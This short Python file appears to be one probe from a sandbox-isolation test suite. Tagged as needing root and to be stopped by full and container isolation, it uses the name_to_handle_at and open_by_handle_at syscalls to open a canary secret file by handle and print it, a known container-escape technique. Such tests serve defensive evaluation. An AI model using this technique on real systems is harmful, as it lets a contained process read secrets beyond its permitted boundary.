"""Open the file by a handle that needs no path: the way out of early containers.

family: read outside
canary: secret
stops: full, container
root: yes
"""

import ctypes
import os
import struct

libc = ctypes.CDLL(None)
handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0), 136)
mount = ctypes.c_int()
if libc.syscall(NR["name_to_handle_at"], -100, SECRET_FILE.encode(), handle, ctypes.byref(mount), 0) == 0:
    start = os.open(os.path.dirname(SECRET_FILE), os.O_RDONLY)
    print(os.read(libc.syscall(NR["open_by_handle_at"], start, handle, os.O_RDONLY), 1000))
